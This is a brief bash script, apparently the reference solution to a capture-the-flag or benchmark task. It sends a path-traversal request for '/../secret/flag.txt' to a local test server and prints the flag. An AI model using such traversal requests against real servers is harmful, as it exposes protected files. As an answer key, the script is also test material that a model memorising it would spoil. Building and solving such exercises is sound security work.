#!/usr/bin/env bash
# Reference solution: ask the server for /../secret/flag.txt. urllib sends the path as written
# (no dot-segment normalisation); proxies are disabled so the request stays on loopback.
set -euo pipefail
python3 - <<'PY'
import urllib.request

port = open("port.txt").read().strip()
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
with opener.open(f"http://127.0.0.1:{port}/../secret/flag.txt", timeout=5) as response:
    print(response.read().decode().strip())
PY
